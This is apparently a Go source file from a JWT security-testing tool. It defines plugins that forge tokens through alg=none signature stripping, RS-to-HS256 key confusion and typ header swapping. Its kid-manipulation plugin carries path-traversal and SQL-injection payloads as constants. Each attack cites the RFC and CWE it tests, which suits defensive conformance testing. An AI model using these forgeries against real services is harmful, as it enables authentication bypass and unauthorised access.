package plugins

import (
	"context"
	"fmt"
	"strings"

	"github.com/lokisec/loki/pkg/forge"
	"github.com/lokisec/loki/pkg/mischief"
)

// AlgNone strips the signature and advertises the "none" algorithm,
// exercising RFC 8725 §3.1 (clients must reject unsigned tokens).
func AlgNone() *mischief.Plugin {
	return &mischief.Plugin{
		ID:          "alg-none",
		Name:        "Algorithm None",
		Description: "Sets the JWS alg header to none and removes the signature",
		Severity:    mischief.SeverityCritical,
		Phase:       mischief.PhaseTokenSigning,
		Spec: mischief.SpecRef{
			RFC:         "RFC 8725 Section 3.1",
			CWE:         "CWE-347",
			Description: "Verifiers must reject tokens using the none algorithm unless explicitly allowed",
		},
		Apply: func(_ context.Context, mc mischief.Context) (mischief.Result, error) {
			tc, ok := tokenCtx(mc)
			if !ok {
				return mischief.Skipped("no token in context"), nil
			}

			before := tc.Token.Algorithm()
			if err := tc.Token.Sign(forge.AlgNone, nil); err != nil {
				return mischief.Result{}, err
			}

			return applied("set alg=none and removed signature", map[string]any{
				"original_alg": before,
				"new_alg":      forge.AlgNone,
			}), nil
		},
	}
}

// KeyConfusion re-signs an asymmetric token with HS256 using the issuer's
// public key PEM as the HMAC secret. Verifiers that select the key before
// checking the algorithm family will accept the forged signature.
func KeyConfusion() *mischief.Plugin {
	return &mischief.Plugin{
		ID:          "key-confusion",
		Name:        "Key Confusion",
		Description: "Re-signs RS/PS tokens with HS256 keyed by the issuer public key PEM",
		Severity:    mischief.SeverityCritical,
		Phase:       mischief.PhaseTokenSigning,
		Spec: mischief.SpecRef{
			RFC:         "RFC 8725 Section 3.1",
			CWE:         "CWE-347",
			Description: "Verifiers must pin the expected algorithm family to the key type",
		},
		Apply: func(ctx context.Context, mc mischief.Context) (mischief.Result, error) {
			tc, ok := tokenCtx(mc)
			if !ok {
				return mischief.Skipped("no token in context"), nil
			}

			before := tc.Token.Algorithm()
			if !strings.HasPrefix(before, "RS") && !strings.HasPrefix(before, "PS") {
				return mischief.Skipped(fmt.Sprintf("original alg %q is not RSA-based", before)), nil
			}
			if tc.PublicKeyPEM == nil {
				return mischief.Skipped("no public key source wired"), nil
			}

			pemKey, err := tc.PublicKeyPEM(ctx)
			if err != nil {
				// Signal failure through applied=false rather than a half
				// mutated token.
				return mischief.Skipped("public key unavailable: " + err.Error()), nil
			}
			if err := tc.Token.Sign("HS256", pemKey); err != nil {
				return mischief.Skipped("HS256 signing failed: " + err.Error()), nil
			}

			return applied("re-signed RS/PS token as HS256 with issuer public key", map[string]any{
				"original_alg": before,
				"new_alg":      "HS256",
				"hmac_secret":  "issuer public key (SPKI PEM)",
			}), nil
		},
	}
}

// kid-manipulation payloads.
const (
	kidNonexistent   = "nonexistent-key-id"
	kidPathTraversal = "../../../../../../dev/null"
	kidSQLInjection  = "' UNION SELECT 'attacker-key' --"
)

// KidManipulation rewrites the key-id header to probe key lookup handling.
func KidManipulation() *mischief.Plugin {
	return &mischief.Plugin{
		ID:          "kid-manipulation",
		Name:        "Key ID Manipulation",
		Description: "Replaces the kid header with empty, unknown or injection payloads",
		Severity:    mischief.SeverityHigh,
		Phase:       mischief.PhaseTokenSigning,
		Spec: mischief.SpecRef{
			RFC:         "RFC 7515 Section 4.1.4",
			CWE:         "CWE-20",
			Description: "Key identifiers must be treated as untrusted input during key lookup",
		},
		Apply: func(_ context.Context, mc mischief.Context) (mischief.Result, error) {
			tc, ok := tokenCtx(mc)
			if !ok {
				return mischief.Skipped("no token in context"), nil
			}

			before := tc.Token.Header["kid"]
			mode := stringOpt(mc, "mode", "invalid")

			var after string
			switch mode {
			case "remove":
				after = ""
			case "invalid":
				after = kidNonexistent
			case "injection":
				after = kidPathTraversal
			case "sql":
				after = kidSQLInjection
			default:
				return unknownMode(mode), nil
			}
			tc.Token.Header["kid"] = after

			return applied(fmt.Sprintf("set kid header to %s payload", mode), map[string]any{
				"mode":   mode,
				"before": before,
				"after":  after,
			}), nil
		},
	}
}

// TokenTypeConfusion manipulates the typ header so access tokens masquerade
// as other token classes (RFC 9068 §2.1 mandates at+jwt for access tokens).
func TokenTypeConfusion() *mischief.Plugin {
	return &mischief.Plugin{
		ID:          "token-type-confusion",
		Name:        "Token Type Confusion",
		Description: "Removes, invalidates, swaps or case-flips the typ header",
		Severity:    mischief.SeverityHigh,
		Phase:       mischief.PhaseTokenSigning,
		Spec: mischief.SpecRef{
			RFC:         "RFC 9068 Section 2.1",
			CWE:         "CWE-843",
			Description: "Resource servers must validate the declared token type",
		},
		Apply: func(_ context.Context, mc mischief.Context) (mischief.Result, error) {
			tc, ok := tokenCtx(mc)
			if !ok {
				return mischief.Skipped("no token in context"), nil
			}

			before, _ := tc.Token.Header["typ"].(string)
			mode := stringOpt(mc, "mode", "swap")

			var after any
			switch mode {
			case "remove":
				delete(tc.Token.Header, "typ")
				after = nil
			case "invalid":
				after = "NOT-A-TOKEN-TYPE"
				tc.Token.Header["typ"] = after
			case "swap":
				if strings.EqualFold(before, "at+jwt") {
					after = "JWT"
				} else {
					after = "at+jwt"
				}
				tc.Token.Header["typ"] = after
			case "case":
				after = flipCase(before)
				tc.Token.Header["typ"] = after
			default:
				return unknownMode(mode), nil
			}

			return applied(fmt.Sprintf("manipulated typ header (%s)", mode), map[string]any{
				"mode":   mode,
				"before": before,
				"after":  after,
			}), nil
		},
	}
}

// flipCase inverts the letter case of every ASCII letter in s.
func flipCase(s string) string {
	if s == "" {
		s = "JWT"
	}
	out := []rune(s)
	for i, r := range out {
		switch {
		case r >= 'a' && r <= 'z':
			out[i] = r - 'a' + 'A'
		case r >= 'A' && r <= 'Z':
			out[i] = r - 'A' + 'a'
		}
	}
	return string(out)
}
